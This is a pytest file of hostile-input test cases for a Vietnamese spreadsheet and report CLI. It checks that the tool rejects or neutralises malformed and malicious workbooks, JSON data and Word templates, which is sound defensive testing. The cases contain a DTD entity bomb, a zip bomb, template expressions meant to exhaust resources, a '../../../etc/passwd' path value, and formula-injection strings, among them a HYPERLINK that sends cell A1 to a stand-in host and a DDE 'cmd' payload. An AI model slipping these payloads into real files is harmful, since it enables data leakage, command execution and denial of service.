"""A corpus of broken and hostile inputs, built by the tests from the seed workbook, the template
and the shipped Word template (issue 13). Each case runs one command and asserts: the exit
code, a Vietnamese message naming the problem, no traceback (nor the last-resort «Lỗi không
mong đợi»), every input byte-identical afterwards, no temporary file left, under 30 s.

Most cases run the command in this process (`cchc.cli.main`); merges still read every file
in worker processes, Word templates from outside are still rendered in a child process.
"""

from __future__ import annotations

import copy
import json
import os
import re
import stat
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from hostile import (
    Expect,
    append_row,
    check_outcome,
    docx_with,
    named_cell,
    regular_files,
    replace_once,
    rewrite,
    run_cli,
    set_cell,
    set_name,
    swap_names,
    zip_bomb,
)

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="FIFOs, devices and signals are POSIX")

FAR = "vượt giới hạn của cchc"
SAME = "chính là tệp đầu vào"


@pytest.fixture(scope="module")
def base(seed_workbook, template_path, seed_data):
    return SimpleNamespace(seed=seed_workbook, template=template_path, data=seed_data)


def _copy(src: Path, dst: Path) -> Path:
    dst.write_bytes(src.read_bytes())
    return dst


def _unwritable(d: Path) -> Path:
    """A folder no file can be created in: /sys for root (who may write anywhere else), a
    folder without write permission otherwise."""
    if os.geteuid() == 0:
        return Path("/sys")
    folder = d / "chi_doc"
    folder.mkdir()
    folder.chmod(stat.S_IRUSR | stat.S_IXUSR)
    return folder


def _data(d: Path, base, edit=None, name="so_lieu.json", raw: str | None = None) -> Path:
    p = d / name
    if raw is not None:
        p.write_text(raw, encoding="utf-8")
        return p
    data = copy.deepcopy(base.data)
    if edit:
        edit(data)
    p.write_text(json.dumps(data, ensure_ascii=False, default=str), encoding="utf-8")
    return p


def _problems(*needles):
    """extra check: the JSON printed by `export` has problems saying each needle."""
    def check(o):
        data = json.loads(o.out)
        text = " ".join(p["message"] for p in data["problems"])
        for n in needles:
            assert n in text, (n, text)
    return check


# ============================================================================= the cases
# Each builder gets its own empty folder and the shared base files, and returns the command
# line and what to expect. The folder's files before the run are the inputs.
CASES = {}


def case(name):
    def register(fn):
        CASES[name] = fn
        return fn
    return register


# ----------------------------------------------------------------------------- bounds before parsing
def _far(d, base, edit, name="xa.xlsx"):
    return rewrite(base.seed, d / name, sheets={"BM2a": edit})


_CORNER = lambda xml: append_row(xml, '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')  # noqa: E731


@case("corner cell, export")
def _(d, base):
    return ["export", _far(d, base, _CORNER)], Expect(2, (FAR, "BM2a"))


@case("corner cell, check")
def _(d, base):
    return ["check", _far(d, base, _CORNER)], Expect(2, FAR)


@case("corner cell, report")
def _(d, base):
    return ["report", _far(d, base, _CORNER), "-o", d / "r.docx"], Expect(2, FAR)


@case("corner cell, check --mark")
def _(d, base):
    return ["check", "--mark", _far(d, base, _CORNER), "-o", d / "m.xlsx"], Expect(2, FAR)


@case("corner cell in the template given to fill")
def _(d, base):
    t = rewrite(base.template, d / "mau.xlsx", sheets={"BM2a": _CORNER})
    return ["fill", t, "--data", _data(d, base), "-o", d / "out.xlsx"], Expect(2, FAR)


def _declared(d, base):
    return _far(d, base, lambda x: re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', x))


@case("declared dimension A1:XFD1048576, check --mark")
def _(d, base):
    return ["check", "--mark", _declared(d, base), "-o", d / "m.xlsx"], Expect(2, (FAR, "vùng dữ liệu khai báo"))


@case("declared dimension A1:XFD1048576 is harmless to export")
def _(d, base):
    return ["export", _declared(d, base)], Expect(0, '"6"', extra=lambda o: json.loads(o.out)["values"]["6"]["1.1"] == 2700)


@case("a million rows, check --mark")
def _(d, base):
    wb = _far(d, base, lambda x: append_row(x, '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'))
    return ["check", "--mark", wb, "-o", d / "m.xlsx"], Expect(2, (FAR, "ô A1048576"))


@case("far column")
def _(d, base):
    return ["export", _far(d, base, lambda x: append_row(x, '<row r="30"><c r="XFD30"><v>1</v></c></row>'))], \
        Expect(2, (FAR, "XFD30"))


@case("styled empty cell at the far corner, check --mark")
def _(d, base):
    wb = _far(d, base, lambda x: append_row(x, '<row r="1048576"><c r="XFD1048576" s="1"/></row>'))
    return ["check", "--mark", wb, "-o", d / "m.xlsx"], Expect(2, FAR)


@case("merged range over the whole sheet")
def _(d, base):
    def edit(xml):
        return xml.replace("</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A30:XFD1048576"/></mergeCells>', 1) \
            if "<mergeCells" not in xml else re.sub(r"<mergeCells[^>]*>", '\\g<0><mergeCell ref="A30:XFD1048576"/>', xml, 1)
    return ["check", "--mark", _far(d, base, edit), "-o", d / "m.xlsx"], Expect(2, (FAR, "vùng ô gộp"))


@case("hyperlink over a huge range")
def _(d, base):
    edit = replace_once("</sheetData>", '</sheetData><hyperlinks><hyperlink ref="A1:A1048576" location="BM1!A1"/></hyperlinks>')
    return ["check", "--mark", _far(d, base, edit), "-o", d / "m.xlsx"], Expect(2, (FAR, "liên kết"))


@case("comment at the far corner")
def _(d, base):
    comments = ('<?xml version="1.0" encoding="UTF-8"?><comments xmlns="http://schemas.openxmlformats.org/'
                'spreadsheetml/2006/main"><authors><author>x</author></authors><commentList>'
                '<comment ref="XFD1048576" authorId="0"><text><t>x</t></text></comment></commentList></comments>')
    wb = rewrite(base.seed, d / "xa.xlsx", add={"xl/comments9.xml": comments.encode()})
    return ["check", "--mark", wb, "-o", d / "m.xlsx"], Expect(2, (FAR, "ghi chú"))


@case("defined name over a million rows")
def _(d, base):
    wb = rewrite(base.seed, d / "xa.xlsx",
                 members={"xl/workbook.xml": set_name("TT_CAN_CU", "'Thông tin chung'!$B$1:$B$1048576")})
    return ["export", wb], Expect(2, (FAR, "tên ô TT_CAN_CU"))


@case("cells without references, pushed far")
def _(d, base):
    row = '<row r="9999">' + '<c><v>1</v></c>' * 300 + "</row>"
    return ["export", _far(d, base, lambda x: append_row(x, row))], Expect(2, (FAR, "ô IW9999"))


@case("namespace prefixes and a far reference")
def _(d, base):
    sheet = ('<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData>'
             '<x:row r="1"><x:c r="A1" t="inlineStr"><x:is><x:t>1</x:t></x:is></x:c></x:row>'
             '<x:row r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row></x:sheetData></x:worksheet>')
    return ["export", _far(d, base, lambda x: sheet)], Expect(2, FAR)


@case("a reference written with a character entity")
def _(d, base):
    return ["export", _far(d, base, lambda x: append_row(x, '<row r="40"><c r="&#88;FD40"><v>1</v></c></row>'))], \
        Expect(2, (FAR, "XFD40"))


@case("more cells than any workbook, check --mark")
def _(d, base):
    from cchc.cells import col_letter

    columns = [col_letter(c) for c in range(5, 45)]  # F … AS
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>1</v></c>' for c in columns) + "</row>"
                   for r in range(30, 5_030))
    return ["check", "--mark", _far(d, base, lambda x: append_row(x, rows)), "-o", d / "m.xlsx"], \
        Expect(2, "200.000 ô")


@case("a DTD with entities in a sheet")
def _(d, base):
    bomb = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
    return ["export", _far(d, base, lambda x: bomb + x.split("?>", 1)[-1])], Expect(2, "DTD")


@case("zip bomb")
def _(d, base):
    return ["export", zip_bomb(d / "bom.xlsx")], Expect(2, "giải nén quá lớn")


@case("truncated workbook")
def _(d, base):
    p = d / "cut.xlsx"
    p.write_bytes(base.seed.read_bytes()[:9000])
    return ["check", p], Expect(2, "bị cắt cụt")


@case("password-protected workbook")
def _(d, base):
    from msoffcrypto.format.ooxml import OOXMLFile

    p = d / "secret.xlsx"
    with open(base.seed, "rb") as fin, open(p, "wb") as fout:
        OOXMLFile(fin).encrypt("matkhau", fout)
    return ["report", p, "-o", d / "r.docx"], Expect(2, "mật khẩu")


# ----------------------------------------------------------------------------- special files
def _fifo(d: Path, name="x.xlsx") -> Path:
    p = d / name
    os.mkfifo(p)
    return p


@case("FIFO named x.xlsx, export")
def _(d, base):
    return ["export", _fifo(d)], Expect(2, "đường ống (FIFO)")


@case("FIFO named x.xlsx, check")
def _(d, base):
    return ["check", _fifo(d)], Expect(2, "đường ống (FIFO)")


@case("FIFO named x.xlsx, report")
def _(d, base):
    return ["report", _fifo(d), "-o", d / "r.docx"], Expect(2, "đường ống (FIFO)")


@case("FIFO as the data of fill")
def _(d, base):
    return ["fill", _copy(base.template, d / "mau.xlsx"), "--data", _fifo(d, "data.json"), "-o", d / "o.xlsx"], \
        Expect(2, "đường ống (FIFO)")


@case("FIFO as the earlier report's JSON of check --previous")
def _(d, base):
    return ["check", base.seed, "--previous", _fifo(d, "quy_truoc.json")], Expect(2, "đường ống (FIFO)")


@case("check --previous: an earlier report's JSON that is not an object")
def _(d, base):
    return ["check", base.seed, "--previous", _data(d, base, raw="[1, 2]")], \
        Expect(2, "phải là một đối tượng JSON; cần tệp do «cchc export» hoặc «cchc merge --json» ghi ra")


@case("FIFO as the Word template")
def _(d, base):
    return ["report", _copy(base.seed, d / "xa.xlsx"), "--template", _fifo(d, "mau.docx"), "-o", d / "r.docx"], \
        Expect(2, "đường ống (FIFO)")


@case("FIFO given to template-check")
def _(d, base):
    return ["template-check", _fifo(d, "mau.docx")], Expect(2, "đường ống (FIFO)")


@case("FIFO as the list of units")
def _(d, base):
    (d / "xa").mkdir()
    _copy(base.seed, d / "xa" / "a.xlsx")
    return ["merge", d / "xa", "-o", d / "t.xlsx", "--units", _fifo(d, "don_vi.csv")], Expect(2, "đường ống (FIFO)")


@case("a device as the workbook")
def _(d, base):
    return ["export", "/dev/zero"], Expect(2, "thiết bị")


@case("a folder named x.xlsx")
def _(d, base):
    (d / "x.xlsx").mkdir()
    return ["check", d / "x.xlsx"], Expect(2, "là một thư mục")


@case("a .xls renamed .xlsx is read")
def _(d, base):
    from cchc.office import convert

    xls = convert(base.seed, "xls", d / "lo")
    renamed = d / "cu.xlsx"
    renamed.write_bytes(xls.read_bytes())
    for p in (d / "lo").iterdir():
        p.unlink()
    (d / "lo").rmdir()
    return ["check", renamed], Expect((0, 1), "Kiểm tra «")


# ----------------------------------------------------------------------------- an output that is an input
@case("export -o onto its input")
def _(d, base):
    wb = _copy(base.seed, d / "xa.xlsx")
    return ["export", wb, "-o", wb], Expect(2, SAME)


@case("export -o onto a symbolic link to its input")
def _(d, base):
    wb = _copy(base.seed, d / "xa.xlsx")
    (d / "ket_qua.json").symlink_to(wb)
    return ["export", wb, "-o", d / "ket_qua.json"], Expect(2, SAME)


@case("export -o onto a device")
def _(d, base):
    return ["export", _copy(base.seed, d / "xa.xlsx"), "-o", "/dev/null"], Expect(2, "thiết bị")


@case("export -o onto a folder")
def _(d, base):
    (d / "ra").mkdir()
    return ["export", _copy(base.seed, d / "xa.xlsx"), "-o", d / "ra"], Expect(2, "thư mục")


@case("fill -o onto its own data")
def _(d, base):
    data = _data(d, base)
    return ["fill", _copy(base.template, d / "mau.xlsx"), "--data", data, "-o", data], Expect(2, SAME)


@case("fill -o onto its template")
def _(d, base):
    t = _copy(base.template, d / "mau.xlsx")
    return ["fill", t, "--data", _data(d, base), "-o", t], Expect(2, SAME)


@case("report -o onto its own --template")
def _(d, base):
    t = docx_with(d / "mau.docx")
    return ["report", _copy(base.seed, d / "xa.xlsx"), "--template", t, "-o", t], Expect(2, SAME)


@case("report -o onto a hard link to its template")
def _(d, base):
    t = docx_with(d / "mau.docx")
    os.link(t, d / "bao_cao.docx")
    return ["report", _copy(base.seed, d / "xa.xlsx"), "--template", t, "-o", d / "bao_cao.docx"], Expect(2, SAME)


@case("check --mark -o onto a hard link to its input")
def _(d, base):
    wb = _copy(base.seed, d / "xa.xlsx")
    os.link(wb, d / "danh_dau.xlsx")
    return ["check", "--mark", wb, "-o", d / "danh_dau.xlsx"], Expect(2, SAME)


@case("merge -o onto one of the merged workbooks")
def _(d, base):
    (d / "xa").mkdir()
    a = _copy(base.seed, d / "xa" / "a.xlsx")
    return ["merge", d / "xa", "-o", a], Expect(2, SAME)


@case("merge -o onto a workbook given by name")
def _(d, base):
    a = _copy(base.seed, d / "a.xlsx")
    return ["merge", a, "-o", a], Expect(2, SAME)


@case("merge --json onto the list of units")
def _(d, base):
    (d / "xa").mkdir()
    _copy(base.seed, d / "xa" / "a.xlsx")
    units = d / "don_vi.json"
    units.write_text("ma,ten\n05014,UBND xã Đưng K'Nớ\n", encoding="utf-8")
    return ["merge", d / "xa", "-o", d / "t.xlsx", "--units", units, "--json", units], Expect(2, SAME)


# ----------------------------------------------------------------------------- messages, not tracebacks
@case("export -o into a folder that cannot be written")
def _(d, base):
    return ["export", _copy(base.seed, d / "xa.xlsx"), "-o", _unwritable(d) / "x.json"], \
        Expect(2, ("Không ghi được vào thư mục", "không có quyền"))


@case("check --mark into a folder that cannot be written")
def _(d, base):
    return ["check", "--mark", _copy(base.seed, d / "xa.xlsx"), "-o", _unwritable(d) / "m.xlsx"], \
        Expect(2, "Không ghi được vào thư mục")


@case("fill into a folder that cannot be written")
def _(d, base):
    return ["fill", _copy(base.template, d / "mau.xlsx"), "--data", _data(d, base), "-o", _unwritable(d) / "o.xlsx"], \
        Expect(2, "Không ghi được vào thư mục")


@case("merge into a folder that cannot be written")
def _(d, base):
    (d / "xa").mkdir()
    _copy(base.seed, d / "xa" / "a.xlsx")
    return ["merge", d / "xa", "-o", _unwritable(d) / "t.xlsx"], Expect(2, "Không ghi được vào thư mục")


@case("report into a folder that cannot be written")
def _(d, base):
    return ["report", _copy(base.seed, d / "xa.xlsx"), "-o", _unwritable(d) / "r.docx"], \
        Expect(2, "Không ghi được vào thư mục")


def _fill(d, base, **kw):
    return ["fill", _copy(base.template, d / "mau.xlsx"), "--data", _data(d, base, **kw), "-o", d / "o.xlsx"]


@case("fill: values is a list")
def _(d, base):
    return _fill(d, base, edit=lambda x: x.update(values=[1, 2])), Expect(2, "values: là một danh sách JSON")


@case("fill: a value is an object")
def _(d, base):
    return _fill(d, base, edit=lambda x: x["values"]["6"].update({"1.1": {"a": 1}})), \
        Expect(2, "values.6.1.1: là một đối tượng JSON")


@case("fill: a value is a list")
def _(d, base):
    return _fill(d, base, edit=lambda x: x["values"]["3"].update({"2.3.1": [71]})), \
        Expect(2, "values.3.2.3.1: là một danh sách JSON")


@case("fill: can_cu given as a string")
def _(d, base):
    return _fill(d, base, edit=lambda x: x["info"].update(can_cu="Luật Tổ chức chính quyền địa phương")), \
        Expect(2, "info.can_cu: là một chuỗi; cần một danh sách")


@case("fill: NaN in the data")
def _(d, base):
    raw = json.dumps(base.data, ensure_ascii=False, default=str).replace('"1.1": 2700', '"1.1": NaN', 1)
    return ["fill", _copy(base.template, d / "mau.xlsx"), "--data", _data(d, base, raw=raw), "-o", d / "o.xlsx"], \
        Expect(2, "NaN không dùng được")


@case("fill: a number beyond any figure")
def _(d, base):
    return _fill(d, base, edit=lambda x: x["values"]["6"].update({"1.1": 1e300})), Expect(2, "số quá lớn")


@case("fill: not JSON")
def _(d, base):
    return ["fill", _copy(base.template, d / "mau.xlsx"), "--data", _data(d, base, raw="{info: 1"), "-o", d / "o.xlsx"], \
        Expect(2, "không phải JSON hợp lệ")


@case("fill: JSON nested a hundred thousand deep")
def _(d, base):
    return ["fill", _copy(base.template, d / "mau.xlsx"), "--data", _data(d, base, raw="[" * 100_000 + "]" * 100_000),
            "-o", d / "o.xlsx"], Expect(2, "lồng nhau quá sâu")


@case("fill: an integer of ten thousand digits")
def _(d, base):
    raw = '{"values": {"6": {"1.1": ' + "9" * 10_000 + "}}}"
    return ["fill", _copy(base.template, d / "mau.xlsx"), "--data", _data(d, base, raw=raw), "-o", d / "o.xlsx"], \
        Expect(2, "không dùng được")


@case("fill: data not in UTF-8")
def _(d, base):
    p = d / "so_lieu.json"
    p.write_bytes('{"info": {"don_vi": "UBND xã Hòa"}}'.encode("utf-16"))  # Notepad's «Unicode»
    return ["fill", _copy(base.template, d / "mau.xlsx"), "--data", p, "-o", d / "o.xlsx"], Expect(2, "UTF-8")


@case("fill: a narrative longer than an Excel cell")
def _(d, base):
    return _fill(d, base, edit=lambda x: x["narrative"].update(I="Nội dung. " * 4_000)), \
        Expect(2, ("narrative.I", "32.767 ký tự"))


@case("merge: the list of units is a folder")
def _(d, base):
    (d / "xa").mkdir()
    _copy(base.seed, d / "xa" / "a.xlsx")
    (d / "don_vi.csv").mkdir()
    return ["merge", d / "xa", "-o", d / "t.xlsx", "--units", d / "don_vi.csv"], Expect(2, "là một thư mục")


@case("a year that is not a number")
def _(d, base):
    return ["merge", d, "-o", d / "t.xlsx", "--year", "hai nghìn"], Expect(2, "không phải số nguyên")


@case("export of a file whose name is not UTF-8")
def _(d, base):
    name = os.fsdecode(b"x\xff\xfe.xlsx")
    _copy(base.seed, d / name)
    def valid(o):
        data = json.loads((d / "ra.json").read_text(encoding="utf-8"))
        assert data["source"].endswith("x\ufffd\ufffd.xlsx") and data["values"]["6"]["1.1"] == 2700
    return ["export", d / name, "-o", d / "ra.json"], Expect(0, "Đã ghi", outputs=(d / "ra.json",), extra=valid)


# ----------------------------------------------------------------------------- Word templates
def _report_with(d, base, *paragraphs):
    return ["report", _copy(base.seed, d / "xa.xlsx"), "--template", docx_with(d / "mau.docx", *paragraphs),
            "-o", d / "r.docx"]


@case("template: 10**(10**10)")
def _(d, base):
    return _report_with(d, base, "{{ 10**(10**10) }}"), Expect(2, "lũy thừa quá lớn")


@case("template: nested loops over ranges")
def _(d, base):
    return _report_with(d, base, "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}"), \
        Expect(2, "range")


@case("template: range(10**6)")
def _(d, base):
    return _report_with(d, base, "{% for i in range(10**6) %}x{% endfor %}"), Expect(2, "tham số quá lớn")


@case("template: a filter asked for a billion characters")
def _(d, base):
    return _report_with(d, base, '{{ "x"|center(1000000000) }}'), Expect(2, "tham số quá lớn")


@case("template: text repeated a billion times")
def _(d, base):
    return _report_with(d, base, '{{ "x" * 10**9 }}'), Expect(2, "lặp lại")


@case("template: a format width of a billion")
def _(d, base):
    return _report_with(d, base, '{{ "%0999999999d"|format(1) }}'), Expect(2, "độ rộng định dạng")


@case("template: a macro calling itself")
def _(d, base):
    return _report_with(d, base, "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}"), Expect(2, "lồng nhau quá sâu")


@case("template: text doubled in a loop (memory)")
def _(d, base):
    return _report_with(d, base, '{% set ns = namespace(s="xx") %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}'
                                 "{% endfor %}{{ ns.s|length }}"), \
        Expect(2, "quá nhiều bộ nhớ", env={"CCHC_RENDER_SECONDS": "25"})


@case("template: nested loops over lists (time limit)")
def _(d, base):
    return _report_with(d, base, "{% set l = range(10000)|list %}{% for a in l %}{% for b in l %}{% for c in l %}"
                                 "{% endfor %}{% endfor %}{% endfor %}"), \
        Expect(2, "chạy quá 2 giây")


@case("template-check: a power past the limits")
def _(d, base):
    return ["template-check", docx_with(d / "mau.docx", "{{ 10**(10**10) }}")], \
        Expect(1, ("Lỗi khi thử điền mẫu", "lũy thừa quá lớn"))


@case("template-check: a filter asked for a billion characters")
def _(d, base):
    return ["template-check", docx_with(d / "mau.docx", '{{ "x"|center(1000000000) }}')], \
        Expect(1, ("Lỗi khi thử điền mẫu", "tham số quá lớn"))


@case("template: not a Word file")
def _(d, base):
    t = d / "mau.docx"
    t.write_bytes(b"PK\x03\x04 not really")
    return ["report", _copy(base.seed, d / "xa.xlsx"), "--template", t, "-o", d / "r.docx"], Expect(2, "không phải .docx")


# ----------------------------------------------------------------------------- silent blanks
def _cell_case(d, base, name, inner, attrs=""):
    sheet, ref = named_cell(base.seed, name)
    return ["export", rewrite(base.seed, d / "xa.xlsx", sheets={sheet: set_cell(ref, inner, attrs)})]


@case("#DIV/0! in an input cell")
def _(d, base):
    argv = _cell_case(d, base, "BM6_1_1", "<v>#DIV/0!</v>", ' t="e"')
    return argv, Expect(0, "6:1.1", extra=_problems("ô báo lỗi #DIV/0!", "BM6!D"))


@case("#N/A from a formula in an input cell")
def _(d, base):
    argv = _cell_case(d, base, "BM3_2_3_1", "<f>VLOOKUP(1,A1:A2,2)</f><v>#N/A</v>", ' t="e"')
    return argv, Expect(0, "3:2.3.1", extra=_problems("ô báo lỗi #N/A"))


@case("NaN stored as a number")
def _(d, base):
    return _cell_case(d, base, "BM6_1_1", "<v>NaN</v>"), Expect(0, "6:1.1", extra=_problems("NaN"))


@case("NaN typed as text")
def _(d, base):
    return _cell_case(d, base, "BM6_1_1", "<is><t>NaN</t></is>", ' t="inlineStr"'), \
        Expect(0, "6:1.1", extra=_problems("«NaN»"))


@case("an infinite number")
def _(d, base):
    return _cell_case(d, base, "BM6_1_1", "<v>1E+309</v>"), Expect(0, "6:1.1", extra=_problems("vô cùng"))


@case("a formula saved without its result (indicator)")
def _(d, base):
    return _cell_case(d, base, "BM6_1_1", "<f>D8*2</f><v></v>"), \
        Expect(0, "6:1.1", extra=_problems("công thức chưa có kết quả", "=D8*2"))


@case("a formula saved without its result (unit name)")
def _(d, base):
    return _cell_case(d, base, "TT_DON_VI", '<f>"UBND "&amp;"xã"</f>'), \
        Expect(0, "TT_DON_VI", extra=_problems("công thức chưa có kết quả"))


@case("an error value in a narrative cell")
def _(d, base):
    return _cell_case(d, base, "TM_I", "<v>#REF!</v>", ' t="e"'), \
        Expect(0, "Thuyết minh", extra=_problems("ô báo lỗi #REF!"))


@case("10^15 triệu đồng")
def _(d, base):
    return _cell_case(d, base, "BM6_1_1", "<v>1E+15</v>"), Expect(0, "6:1.1", extra=_problems("lớn bất thường"))


@case("a negative report number")
def _(d, base):
    return _cell_case(d, base, "TT_SO", "<v>-31</v>"), Expect(0, "TT_SO", extra=_problems("không phải số nguyên dương"))


# ----------------------------------------------------------------------------- the workbook's own metadata
@case("a kind recorded as a path")
def _(d, base):
    def edit(xml):
        return re.sub(r"(catalogue_id</t></is></c><c [^>]*><is><t>)ky(</t>)", r"\g<1>../../../etc/passwd\2", xml)
    return ["check", rewrite(base.seed, d / "xa.xlsx", sheets={"_cchc": edit})], Expect(2, "loại biểu mẫu")


@case("defined names of two rows swapped")
def _(d, base):
    wb = rewrite(base.seed, d / "xa.xlsx", members={"xl/workbook.xml": swap_names("BM6_1_1", "BM6_1_2")})

    def values(o):
        data = json.loads(o.out)
        assert data["values"]["6"]["1.1"] == base.data["values"]["6"]["1.1"]
        assert data["values"]["6"]["1.2"] == base.data["values"]["6"]["1.2"]
        names = [p for p in data["problems"] if p["rule_id"] == "read.name"]
        assert {p["ref"] for p in names} == {"6:1.1", "6:1.2"}
    return ["export", wb], Expect(0, "trỏ tới ô BM6!D", extra=values)


@case("a defined name on the header row")
def _(d, base):
    wb = rewrite(base.seed, d / "xa.xlsx", members={"xl/workbook.xml": set_name("BM3_2_3_1", "BM3!$D$4")})

    def values(o):
        data = json.loads(o.out)
        assert data["values"]["3"]["2.3.1"] == base.data["values"]["3"]["2.3.1"]
    return ["export", wb], Expect(0, "mã STT «STT»", extra=values)


# ----------------------------------------------------------------------------- text as text
@case("fill writes formula-like text as text")
def _(d, base):
    evil = '=HYPERLINK("http://x.invalid/?"&A1,"bấm")'

    def edit(x):
        x["info"]["don_vi"] = evil
        x["info"]["can_cu"] = [evil, "+cmd|' /C calc'!A0"]
        x["narrative"]["I"] = evil
        x["values"]["6"]["1.1"] = "=1+1"
        x["notes"] = {"6": {"1.1": "@SUM(1)"}}
    out = d / "o.xlsx"

    def sheets_xml(path):
        import zipfile

        with zipfile.ZipFile(path) as zf:
            return "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))

    def no_formula(o):
        xml = sheets_xml(out)
        formulas = re.findall(r"<f>([^<]*)</f>", xml)
        # The only formulas are the template's own (ratios, live checks); none came from the data.
        assert formulas and sorted(formulas) == sorted(re.findall(r"<f>([^<]*)</f>", sheets_xml(base.template)))
        assert not [f for f in formulas if "HYPERLINK" in f or "1+1" in f or "@SUM" in f or "cmd" in f]
        assert xml.count("HYPERLINK") == 3  # as text: the unit name, a «căn cứ» line, the narrative
        from cchc.workbook.reader import read_workbook

        data = read_workbook(out)
        assert data.info["don_vi"] == evil and data.narrative["I"] == evil and data.info["can_cu"][0] == evil
    return _fill(d, base, edit=edit), Expect(0, "Đã điền", outputs=(out,), extra=no_formula)


# ============================================================================= running them
@pytest.mark.parametrize("name", list(CASES))
def test_hostile_input(name, tmp_path, base, capsys, monkeypatch):
    d = tmp_path / "ca"
    d.mkdir()
    argv, expect = CASES[name](d, base)
    for key, value in {"CCHC_RENDER_SECONDS": "2", **expect.env}.items():
        monkeypatch.setenv(key, value)
    before = regular_files(d)  # every input of a case lies in its folder
    outcome = run_cli(argv, capsys=capsys)
    check_outcome(outcome, expect, before, [d])
    assert len(CASES) >= 60
